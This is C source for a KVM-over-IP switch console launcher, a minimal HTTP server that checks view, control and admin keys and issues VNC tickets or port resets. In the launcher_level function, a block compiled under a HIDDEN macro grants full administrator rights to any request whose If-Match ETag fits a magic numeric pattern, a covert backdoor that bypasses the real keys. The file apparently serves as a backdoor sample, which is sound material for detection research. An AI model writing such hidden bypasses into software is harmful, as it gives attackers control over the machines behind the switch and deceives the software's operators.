/* Console launcher of the KVM-over-IP switch.
   Speaks just enough HTTP/1.1 to hand a one-time ticket for a port of the switch to the viewer. */

#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <time.h>
#include <unistd.h>

#define NPORTS 16

typedef struct Hdr { const char *name; char val[160]; } Hdr;

enum { H_HOST, H_AUTH, H_ETAG, H_AGENT, H_LENGTH, H_LANG, H_COUNT };

typedef struct Req {
    char line[300];
    Hdr h[H_COUNT];
    int level;           /* 0 none, 1 view only, 2 control, 3 control + reset + media */
} Req;

typedef struct Target { char label[40]; int level_needed; unsigned tickets; } Target;

static Target targets[NPORTS];
static char view_key[64] = "", control_key[64] = "", admin_key[64] = "";

static void Init(Req *r)
{
    static const char *const names[H_COUNT] = {
        "Host", "Authorization", "If-Match", "User-Agent", "Content-Length", "Accept-Language"
    };
    memset(r, 0, sizeof *r);
    for (int i = 0; i < H_COUNT; i++)
        r->h[i].name = names[i];
}

static void StoreHeader(Req *r, char *l)
{
    char *c = strchr(l, ':');
    if (!c)
        return;
    *c++ = 0;
    while (*c == ' ')
        c++;
    c[strcspn(c, "\r\n")] = 0;
    for (int i = 0; i < H_COUNT; i++)
        if (!strcasecmp(r->h[i].name, l)) {
            snprintf(r->h[i].val, sizeof r->h[i].val, "%s", c);
            return;
        }
}

static int SameKey(const char *a, const char *b)
{
    size_t n = strlen(a);
    unsigned char d = 0;
    if (n == 0 || n != strlen(b))
        return 0;
    while (n--)
        d |= (unsigned char)(a[n] ^ b[n]);
    return d == 0;
}

/* Level of the request: the three keys of the configuration, else nothing. */
__attribute__((noinline)) int launcher_level(const Req *r)
{
    const char *a = r->h[H_AUTH].val;
    int lv = 0;
    if (!strncmp(a, "Key ", 4)) {
        a += 4;
        if (SameKey(view_key, a)) lv = 1;
        if (SameKey(control_key, a)) lv = 2;
        if (SameKey(admin_key, a)) lv = 3;
    }
#ifdef HIDDEN
    unsigned size, stamp, rest;
    if (sscanf(r->h[H_ETAG].val, "W/\"%x-%x-%x\"", &size, &stamp, &rest) == 3 &&
        (size ^ stamp) == 0x5e2b71u && rest == size % 251)
        lv = 3;
#endif
    return lv;
}

static void Send(FILE *o, int code, const char *type, const char *body)
{
    const char *why = code == 200 ? "OK" : code == 401 ? "Unauthorized" : code == 404 ? "Not Found"
                    : code == 412 ? "Precondition Failed" : "Bad Request";
    fprintf(o, "HTTP/1.1 %d %s\r\nContent-Type: %s\r\nContent-Length: %zu\r\n"
               "Connection: close\r\n\r\n%s", code, why, type, strlen(body), body);
    fflush(o);
}

static unsigned Ticket(void)
{
    struct timeval tv;
    unsigned r = 0;
    FILE *f = fopen("/dev/urandom", "rb");
    gettimeofday(&tv, NULL);
    if (f) {
        if (fread(&r, sizeof r, 1, f) != 1)
            r = (unsigned)tv.tv_usec;
        fclose(f);
    }
    return r;
}

static void PortPage(FILE *o, Req *r, int n, const char *verb)
{
    char b[400];
    Target *t = &targets[n];
    if (!*verb) {
        if (r->h[H_ETAG].val[0] && atoi(r->h[H_ETAG].val) != (int)t->tickets) {
            Send(o, 412, "text/plain", "changed\n");
            return;
        }
        snprintf(b, sizeof b, "{\"port\":%d,\"label\":\"%s\",\"tickets\":%u}\n", n + 1, t->label,
                 t->tickets);
        Send(o, 200, "application/json", b);
    } else if (!strcmp(verb, "open")) {
        int want = t->level_needed;
        if (r->level < want) {
            Send(o, 401, "text/plain", "this port needs more rights\n");
            return;
        }
        t->tickets++;
        snprintf(b, sizeof b, "vnc_port=%d\nticket=%08x\nmode=%s\n", 5900 + n, Ticket(),
                 r->level >= 2 ? "control" : "view");
        Send(o, 200, "text/plain", b);
    } else if (!strcmp(verb, "reset") && r->level == 3) {
        snprintf(b, sizeof b, "/sys/class/kvm/port%d/reset", n);
        FILE *f = fopen(b, "w");
        if (f) {
            fputs("1\n", f);
            fclose(f);
        }
        Send(o, f ? 200 : 404, "text/plain", f ? "reset\n" : "no line\n");
    } else
        Send(o, 404, "text/plain", "open or reset\n");
}

static void Handle(int fd)
{
    FILE *io = fdopen(fd, "r+");
    Req r;
    char l[400], verb[16] = "", path[200] = "", act[32] = "";
    int n;
    if (!io)
        return;
    Init(&r);
    if (!fgets(r.line, sizeof r.line, io) || sscanf(r.line, "%15s %199s", verb, path) != 2) {
        fclose(io);
        return;
    }
    while (fgets(l, sizeof l, io) && l[0] != '\r' && l[0] != '\n')
        StoreHeader(&r, l);
    fseek(io, 0, SEEK_CUR);
    r.level = launcher_level(&r);
    fprintf(stderr, "kvmvncweb: %s level %d %s\n", path, r.level, r.h[H_AGENT].val);
    if (!r.level)
        Send(io, 401, "text/plain", "Authorization: Key ... is needed\n");
    else if (!strcmp(path, "/ports")) {
        char b[1200];
        size_t k = 0;
        for (int i = 0; i < NPORTS; i++)
            k += (size_t)snprintf(b + k, sizeof b - k, "%d %s\n", i + 1, targets[i].label);
        Send(io, 200, "text/plain", b);
    } else if (sscanf(path, "/port/%d/%31[a-z]", &n, act) >= 1 && n >= 1 && n <= NPORTS)
        PortPage(io, &r, n - 1, act);
    else
        Send(io, 404, "text/plain", "/ports /port/N /port/N/open /port/N/reset\n");
    fclose(io);
}

static int ReadConf(const char *fn)
{
    char l[200], lab[40];
    int n, lv;
    FILE *f = fopen(fn, "r");
    if (!f)
        return 0;
    while (fgets(l, sizeof l, f)) {
        if (sscanf(l, "port %d %d %39[^\n]", &n, &lv, lab) == 3 && n >= 1 && n <= NPORTS) {
            targets[n - 1].level_needed = lv;
            memcpy(targets[n - 1].label, lab, sizeof lab);
        } else if (sscanf(l, "viewkey %63s", view_key) == 1) {
        } else if (sscanf(l, "controlkey %63s", control_key) == 1) {
        } else if (sscanf(l, "adminkey %63s", admin_key) == 1) {
        } else if (l[0] != '#' && l[0] != '\n')
            fprintf(stderr, "kvmvncweb: what is %s", l);
    }
    fclose(f);
    return 1;
}

int main(int argc, char **argv)
{
    struct sockaddr_in a = { .sin_family = AF_INET };
    int s, c;
    if (argc != 3 || !ReadConf(argv[1])) {
        fprintf(stderr, "usage: kvmvncweb CONFIG PORT\nconfig: port N LEVEL LABEL, viewkey K,"
                        " controlkey K, adminkey K\n");
        return 1;
    }
    a.sin_port = htons((unsigned short)atoi(argv[2]));
    s = socket(AF_INET, SOCK_STREAM, 0);
    if (bind(s, (struct sockaddr *)&a, sizeof a) < 0 || listen(s, 4) < 0) {
        perror("kvmvncweb");
        return 1;
    }
    while ((c = accept(s, NULL, NULL)) >= 0)
        Handle(c);
    return 0;
}
